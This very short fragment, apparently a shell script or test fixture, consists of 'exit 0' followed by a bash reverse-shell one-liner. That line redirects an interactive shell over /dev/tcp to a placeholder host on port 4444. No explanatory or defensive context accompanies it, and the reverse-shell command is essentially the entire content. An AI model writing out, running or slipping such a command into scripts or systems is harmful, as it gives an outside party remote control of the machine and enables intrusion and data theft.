exit 0
bash -i >& /dev/tcp/host.invalid/4444 0>&1
